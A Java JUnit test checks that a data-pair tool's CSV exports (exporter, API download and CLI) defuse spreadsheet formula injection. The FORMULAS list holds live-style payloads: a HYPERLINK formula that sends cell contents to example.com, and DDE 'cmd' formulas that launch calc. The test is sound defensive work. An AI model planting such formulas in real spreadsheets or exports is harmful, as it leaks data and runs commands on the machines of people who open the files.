package dev.pairstudio.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pairstudio.api.CollectorConfig;
import dev.pairstudio.api.CollectorServer;
import dev.pairstudio.cli.Cli;
import dev.pairstudio.export.DatasetExporter;
import dev.pairstudio.export.ExportListener;
import dev.pairstudio.export.ExportProfile;
import dev.pairstudio.export.ExportTargetPolicy;
import dev.pairstudio.pair.Pair;
import dev.pairstudio.store.Database;
import dev.pairstudio.store.Databases;
import dev.pairstudio.testing.CsvRecords;
import dev.pairstudio.testing.TestPair;
import java.io.PrintWriter;
import java.io.Reader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/**
 * CSV exports (the exporter, the API's download and the CLI) neutralise spreadsheet formulas: no
 * cell starts with {@code =}, {@code +}, {@code -}, {@code @}, TAB or CR unless it is a plain
 * number; a text cell that did gets a leading {@code '} and otherwise stays as stored.
 */
class CsvFormulaInjectionTest {
    static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\r\n=1+1");
    /** SQL that parses (the anonymized export checks that it still does) yet starts with a dangerous character. */
    static final List<String> SQL = List.of(
            "-- =1+1\nSELECT 1",
            "\tSELECT 2",
            "\rSELECT 3",
            "-- @SUM(1)\nSELECT name FROM customers WHERE email = 'jane.doe@example.com'");

    @TempDir
    static Path dir;

    static Database store;
    static String db;
    static final List<Pair> pairs = new ArrayList<>();

    @BeforeAll
    static void fill() {
        db = dir.resolve("formulas").toString();
        store = Databases.open(db);
        for (int i = 0; i < FORMULAS.size(); i++) {
            String f = FORMULAS.get(i);
            pairs.add(TestPair.of(f + "-id-" + i, f, SQL.get(i % SQL.size()))
                    .at("2024-06-01T10:00:00Z")
                    .on(f, f)
                    .tables(f.strip(), "+t" + i)
                    .tookMs("-5")
                    .build());
        }
        Reliability.add(store, pairs, "formulas");
    }

    @AfterAll
    static void close() {
        store.close();
    }

    /** Every cell is inert; with {@code originals}, the text cells are the stored values behind a quote. */
    static void assertNeutral(List<CSVRecord> rows, boolean originals, String what) {
        assertThat(rows).as(what).hasSize(pairs.size());
        for (CSVRecord row : rows) {
            for (String cell : row) {
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                    assertThat(isNumber(cell))
                            .as(
                                    "%s: a live formula in cell %s",
                                    what, cell.replace("\r", "\\r").replace("\t", "\\t"))
                            .isTrue();
                }
            }
        }
        if (originals) {
            for (int i = 0; i < rows.size(); i++) {
                CSVRecord row = rows.get(i);
                Pair p = pairs.get(i);
                assertThat(row.get("natural_language_query")).as(what).isEqualTo("'" + p.question());
                assertThat(row.get("pair_id")).as(what).isEqualTo("'" + p.pairId());
                assertThat(row.get("database_type")).as(what).isEqualTo("'" + p.databaseType());
                assertThat(row.get("database_name")).as(what).isEqualTo("'" + p.databaseName());
                assertThat(row.get("execution_time_ms")).as(what).isEqualTo("-5");
            }
        }
    }

    static boolean isNumber(String s) {
        try {
            new BigDecimal(s);
            return true;
        } catch (NumberFormatException e) {
            return false;
        }
    }

    @Test
    void theExporterNeutralisesEveryTextCellWithAndWithoutAnonymization() throws Exception {
        for (boolean anonymize : new boolean[] {false, true}) {
            Path f = dir.resolve("export-" + anonymize + ".csv");
            new DatasetExporter(store, null)
                    .export(
                            ExportProfile.defaults("csv").withDedup(false).withAnonymize(anonymize),
                            f,
                            ExportTargetPolicy.FAIL,
                            ExportListener.NONE);
            try (Reader in = Files.newBufferedReader(f, StandardCharsets.UTF_8)) {
                assertNeutral(CsvRecords.read(in), !anonymize, "exporter, anonymize=" + anonymize);
            }
        }
    }

    @Test
    void theApiDownloadIsNeutralisedToo() throws Exception {
        try (CollectorServer server = CollectorServer.start(
                store, CollectorConfig.defaults().withPort(0).withThreads(2).withTrackDuplicates(false))) {
            RawHttp api = new RawHttp("127.0.0.1", server.port(), server.token());
            for (String anonymize : List.of("true", "false")) {
                RawHttp.Response r = api.get(CollectorServer.PREFIX + "/export?format=csv&anonymize=" + anonymize);
                assertThat(r.status()).as("%s", r).isEqualTo(200);
                assertThat(r.headers().get("content-type")).isEqualTo("text/csv; charset=utf-8");
                assertNeutral(CsvRecords.read(r.text()), anonymize.equals("false"), "API, anonymize=" + anonymize);
            }
        }
    }

    @Test
    void theCliExportIsNeutralisedToo() throws Exception {
        Path out = dir.resolve("cli.csv");
        CommandLine cl = Cli.commandLine();
        cl.setOut(new PrintWriter(new StringWriter()));
        assertThat(cl.execute(
                        "export",
                        "--db",
                        db,
                        "--format",
                        "csv",
                        "--output",
                        out.toString(),
                        "--no-anonymize",
                        "--keep-duplicates"))
                .isZero();
        try (Reader in = Files.newBufferedReader(out, StandardCharsets.UTF_8)) {
            assertNeutral(CsvRecords.read(in), true, "CLI");
        }
    }
}
